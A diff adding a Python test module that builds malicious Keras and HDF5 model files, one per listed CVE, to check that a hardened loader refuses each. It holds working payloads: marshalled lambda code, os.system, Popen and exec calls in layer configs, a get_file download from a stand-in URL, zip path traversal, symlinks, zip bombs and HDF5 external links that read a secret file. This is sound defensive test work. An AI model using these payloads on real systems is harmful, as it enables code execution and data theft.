@@ -1,0 +1,275 @@
+"""Model files made to harm, one for each known weakness of Keras' loaders and of HDF5; made without Keras."""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import marshal
+import stat
+import warnings
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+
+Config = dict[str, Any]
+
+
+class Scene:
+    """Where the attacks take place: a secret that none may read, and a witness that exists if code ran."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        self.secret, self.witness = folder / "secret", folder / "witness"
+        self.secret.write_bytes(b"topsecret" * 1000)
+        code = compile(f"lambda x: (x, open({str(self.witness)!r}, 'w'))[0]", "m", "eval").co_consts[0]
+        self.code = base64.encodebytes(marshal.dumps(code)).decode()
+
+    def old_lambda(self) -> Config:
+        config = {"name": "evil", "function": [self.code, None, None], "function_type": "lambda", "arguments": {}}
+        config |= {"output_shape": None, "output_shape_type": "raw", "module": "m", "output_shape_module": None}
+        return {"class_name": "Lambda", "config": config}
+
+    def new_lambda(self) -> Config:
+        function = {"class_name": "__lambda__", "config": {"code": self.code, "defaults": None, "closure": None}}
+        return of_keras("Lambda", "evil", function=function)
+
+    def hdf5(self, architecture: Config | None, change: Callable[[h5py.File], Any] | None = None) -> Path:
+        path = self.folder / "m.h5"
+        with h5py.File(path, "w") as file:
+            if architecture:
+                file.attrs["model_config"] = json.dumps(architecture)
+            file.attrs["keras_version"] = "2.15.0"
+            classic(file.create_group("model_weights"))
+            if change:
+                change(file)
+        return path
+
+    def archive(
+        self,
+        architecture: Config,
+        *,
+        weights: Callable[[h5py.File], Any] | None = None,
+        change: Callable[[zipfile.ZipFile], Any] | None = None,
+        version: str = "3.15.1",
+    ) -> Path:
+        path, stored = self.folder / "m.keras", io.BytesIO()
+        with h5py.File(stored, "w") as file:
+            file["layers/dense/vars/0"], file["layers/dense/vars/1"] = np.ones((4, 2), "f4"), np.ones(2, "f4")
+            if weights:
+                weights(file)
+        with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as made:
+            warnings.simplefilter("ignore")
+            made.writestr("metadata.json", json.dumps({"keras_version": version}))
+            made.writestr("config.json", json.dumps(architecture))
+            made.writestr("model.weights.h5", stored.getvalue())
+            if change:
+                change(made)
+        return path
+
+    def json(self, text: str) -> Path:
+        path = self.folder / "m.json"
+        path.write_text(text)
+        return path
+
+
+def classic(group: h5py.Group) -> None:
+    group.attrs["layer_names"] = [b"d"]
+    layer = group.create_group("d")
+    layer.attrs["weight_names"] = [b"kernel", b"bias"]
+    layer["kernel"], layer["bias"] = np.ones((4, 2), "f4"), np.ones(2, "f4")
+
+
+def of_keras(kind: str, name: str, module: str = "keras.layers", **config: Any) -> Config:
+    return {
+        "class_name": kind,
+        "module": module,
+        "registered_name": None if module.startswith("keras") else kind,
+        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
+    }
+
+
+def old(kind: str, name: str, **config: Any) -> Config:
+    return {"class_name": kind, "config": {"name": name, "trainable": True, "dtype": "float32", **config}}
+
+
+def sequential(*layers: Config) -> Config:
+    entry = {"class_name": "InputLayer", "config": {"name": "x", "batch_input_shape": [None, 4]}}
+    return {"class_name": "Sequential", "config": {"name": "s", "layers": [entry, *layers, old("Dense", "d", units=2)]}}
+
+
+def new_sequential(*layers: Config) -> Config:
+    entry = of_keras("InputLayer", "x", batch_shape=[None, 4])
+    inside = [entry, *layers, of_keras("Dense", "d", units=2)]
+    return {**of_keras("Sequential", "s", "keras"), "config": {"name": "s", "layers": inside}}
+
+
+def called(scene: Scene, module: str, name: str, *arguments: Any) -> Config:
+    """A layer whose function is one of another module, and the arguments it would be called with."""
+    function = {"class_name": "function", "module": module, "config": name, "registered_name": name}
+    node = {"args": list(arguments), "kwargs": {}}
+    return {**of_keras("Activation", "evil", activation=function), "inbound_nodes": [node]}
+
+
+def class_of(scene: Scene, where: str, name: str, **config: Any) -> Path:
+    layer = of_keras(name, "evil", where)
+    layer["config"].update(config)
+    return scene.archive(new_sequential(layer))
+
+
+def external(scene: Scene) -> Callable[[h5py.File], Any]:
+    return lambda file: file.create_dataset("layers/x", (9000,), "u1", external=[(str(scene.secret), 0, 9000)])
+
+
+def linked(scene: Scene) -> Callable[[h5py.File], Any]:
+    return lambda file: file.__setitem__("layers/x", h5py.ExternalLink(str(scene.secret), "/"))
+
+
+def virtual(scene: Scene) -> Callable[[h5py.File], Any]:
+    def change(file: h5py.File) -> None:
+        layout = h5py.VirtualLayout((4,), "u1")
+        layout[:] = h5py.VirtualSource(str(scene.secret), "x", (4,))
+        file.create_virtual_dataset("layers/x", layout)
+
+    return change
+
+
+def huge(file: h5py.File) -> None:
+    shape = h5py.h5s.create_simple((10**6, 10**6))
+    group = file.require_group("layers")
+    h5py.h5d.create(group.id, b"x", h5py.h5t.IEEE_F32LE, shape)
+
+
+def packed(file: h5py.File) -> None:
+    for number in range(6):
+        shape = (2**28,)
+        file.create_dataset(f"layers/x{number}", shape, "f4", chunks=(2**20,), compression="gzip")
+
+
+def link_member(target: str) -> Callable[[zipfile.ZipFile], Any]:
+    def change(made: zipfile.ZipFile) -> None:
+        member = zipfile.ZipInfo("assets/vocabulary.txt")
+        member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
+        made.writestr(member, target)
+
+    return change
+
+
+def bomb(made: zipfile.ZipFile) -> None:
+    with made.open(zipfile.ZipInfo("assets/x"), "w") as file:
+        file.write(b"")
+    made.writestr("assets/y", bytes(2**28), zipfile.ZIP_DEFLATED, 9)
+
+
+def op_lambda(scene: Scene) -> Config:
+    layer = old("TFOpLambda", "evil", function="io.read_file")
+    return {**layer, "inbound_nodes": [["_CONSTANT_VALUE", -1, str(scene.secret), {}]]}
+
+
+URL = "http://127.0.0.1:9/evil.tar"
+
+# The weakness, the file, and what the refusal names.
+ATTACKS: list[tuple[str, Callable[[Scene], Path], str]] = [
+    ("CVE-2024-3660, archive", lambda s: s.archive(new_sequential(s.new_lambda())), "config.json holds code"),
+    ("CVE-2024-3660, of Keras 2", lambda s: s.archive(sequential(s.old_lambda()), version="2.12.0"), "Lambda in evil"),
+    ("CVE-2025-9905, h5", lambda s: s.hdf5(sequential(s.old_lambda())), "Lambda in evil"),
+    ("tf_keras h5, of Keras 3", lambda s: s.hdf5(new_sequential(s.new_lambda())), "Lambda in evil"),
+    ("h5, nested", lambda s: s.hdf5(sequential(sequential(sequential(s.old_lambda())))), "Lambda in evil"),
+    ("h5, TimeDistributed", lambda s: s.hdf5(sequential(old("TimeDistributed", "t", layer=s.old_lambda()))), "evil"),
+    (
+        "h5, Bidirectional",
+        lambda s: s.hdf5(sequential(old("Bidirectional", "b", layer=old("LSTM", "l"), backward_layer=s.old_lambda()))),
+        "Lambda in evil",
+    ),
+    ("h5, unknown wrapper", lambda s: s.hdf5(sequential(old("Mine", "t", of=[{"it": s.old_lambda()}]))), "evil"),
+    ("h5, list of Keras 2.0", lambda s: s.hdf5({"class_name": "Sequential", "config": [s.old_lambda()]}), "evil"),
+    ("h5, activation", lambda s: s.hdf5(sequential(old("Dense", "a", activation=[s.code, None, None]))), "marshalled"),
+    ("h5, Keras 1 Merge", lambda s: s.hdf5(sequential(old("Merge", "a", mode="c", mode_type="lambda"))), "mode of a"),
+    ("JSON", lambda s: s.json(json.dumps(sequential(s.old_lambda()))), "Lambda in evil"),
+    (
+        "compile_config",
+        lambda s: s.archive({**new_sequential(), "compile_config": {"loss": s.new_lambda()["config"]["function"]}}),
+        "__lambda__ in the training configuration",
+    ),
+    (
+        "nested compile_config",
+        lambda s: s.archive(new_sequential({**new_sequential(), "compile_config": {"metrics": [s.code]}})),
+        "marshalled code in the training configuration",
+    ),
+    (
+        "CVE-2025-1550, function",
+        lambda s: s.archive(new_sequential(called(s, "os", "system", f"touch {s.witness}"))),
+        "the function os.system in evil",
+    ),
+    ("CVE-2025-1550, class", lambda s: class_of(s, "os", "system", command=f"touch {s.witness}"), "os.system in evil"),
+    ("CVE-2025-1550, Popen", lambda s: class_of(s, "subprocess", "Popen", args=["touch", str(s.witness)]), "Popen"),
+    ("CVE-2025-1550, exec", lambda s: s.archive(new_sequential(called(s, "builtins", "exec", "1"))), "builtins.exec"),
+    (
+        "CVE-2025-8747, get_file",
+        lambda s: s.archive(new_sequential(called(s, "keras.utils", "get_file", "x", URL))),
+        "the function keras.utils.get_file in evil",
+    ),
+    (
+        "CVE-2025-9906, safe mode",
+        lambda s: s.archive(new_sequential(called(s, "keras.config", "enable_unsafe_deserialization"), s.new_lambda())),
+        "the function keras.config.enable_unsafe_deserialization in evil",
+    ),
+    ("GHSA-pwq7-2gvj-vg9v", lambda s: class_of(s, "keras.src.utils.file_utils", "Progbar"), "keras.src.utils.file_uti"),
+    ("GHSA-pwq7, numpy", lambda s: class_of(s, "numpy", "memmap", filename=str(s.secret)), "numpy.memmap in evil"),
+    (
+        "CVE-2025-12638, member",
+        lambda s: s.archive(new_sequential(), change=lambda z: z.writestr("../w.py", "")),
+        "w.py",
+    ),
+    ("CVE-2025-12638, absolute", lambda s: s.archive(new_sequential(), change=lambda z: z.writestr("/w", "")), "'/w'"),
+    ("CVE-2025-12638, link", lambda s: s.archive(new_sequential(), change=link_member(str(s.secret))), "symbolic link"),
+    (
+        "CVE-2025-12638, tar",
+        lambda s: s.archive(new_sequential(called(s, "keras.utils", "get_file", "x", URL, True))),
+        "get_file",
+    ),
+    ("CVE-2026-0897, h5", lambda s: s.hdf5(sequential(), huge), "/layers/x: declared as (1000000, 1000000)"),
+    ("CVE-2026-0897, archive", lambda s: s.archive(new_sequential(), weights=huge), "model.weights.h5 is refused: /l"),
+    ("CVE-2026-0897, packed", lambda s: s.archive(new_sequential(), weights=packed), "bytes are declared"),
+    ("huge Dense", lambda s: s.hdf5(sequential(old("Dense", "evil", units=10**9))), "evil (Dense): at least"),
+    ("huge Dense as text", lambda s: s.hdf5(sequential(old("Dense", "evil", units="1" + "0" * 9))), "evil (Dense)"),
+    ("huge LSTM", lambda s: s.archive(new_sequential(of_keras("LSTM", "evil", units=10**9))), "evil (LSTM)"),
+    ("huge Conv", lambda s: s.hdf5(sequential(old("Conv2D", "evil", filters=10**9, kernel_size=[3, 3]))), "evil (Conv"),
+    (
+        "huge Embedding",
+        lambda s: s.archive(new_sequential(of_keras("Embedding", "evil", input_dim=10**12, output_dim=1))),
+        "evil (Embedding): at least 1000000000000 weights",
+    ),
+    ("more than stored", lambda s: s.hdf5(sequential(old("Dense", "evil", units=10**8))), "the file holds 10 numbers"),
+    ("huge input", lambda s: s.hdf5(sequential(old("InputLayer", "evil", batch_input_shape=[None, 10**10]))), "evil"),
+    (
+        "huge constant",
+        lambda s: s.archive(
+            new_sequential({**of_keras("UpSampling1D", "evil", size=2**16), "inbound_nodes": [{"args": [[[[1.0]]]]}]})
+        ),
+        "a call with constants alone in evil",
+    ),
+    ("CVE-2026-1669, h5 storage", lambda s: s.hdf5(sequential(), external(s)), "/layers/x: stored in"),
+    (
+        "CVE-2026-1669, archive storage",
+        lambda s: s.archive(new_sequential(), weights=external(s)),
+        "/layers/x is stored",
+    ),
+    ("CVE-2026-1669, h5 link", lambda s: s.hdf5(sequential(), linked(s)), "/layers/x: a link to another file"),
+    ("CVE-2026-1669, archive link", lambda s: s.archive(new_sequential(), weights=linked(s)), "/layers/x is a link"),
+    ("CVE-2026-1669, virtual", lambda s: s.hdf5(sequential(), virtual(s)), "a virtual dataset"),
+    ("CVE-2026-1462, archive", lambda s: class_of(s, "keras.layers", "TFSMLayer", filepath=str(s.folder)), "TFSMLayer"),
+    ("CVE-2026-1462, h5", lambda s: s.hdf5(sequential(old("TFSMLayer", "evil", filepath="/x"))), "TFSMLayer in evil"),
+    ("TorchModuleWrapper", lambda s: class_of(s, "keras.layers", "TorchModuleWrapper", module="gASV"), "Torch"),
+    ("vectorized_map", lambda s: class_of(s, "keras.src.ops.core", "VectorizedMap"), "VectorizedMap in evil"),
+    ("vocabulary", lambda s: s.hdf5(sequential(old("StringLookup", "evil", vocabulary=str(s.secret)))), "the file /"),
+    ("TensorFlow function", lambda s: s.hdf5(sequential(op_lambda(s))), "the TensorFlow function io.read_file"),
+    ("zip bomb", lambda s: s.archive(new_sequential(), change=bomb), "'assets/y' is unpacked into 268435456 bytes"),
+    ("deep JSON", lambda s: s.json('{"a":' * 10**5), "levels"),
+    ("long JSON", lambda s: s.json("[" + "0," * (9 * 2**20)), "18874369 bytes"),
+    ("key twice", lambda s: s.json('{"class_name": "A", "class_name": "Lambda", "config": {}}'), "'class_name' twice"),
+]
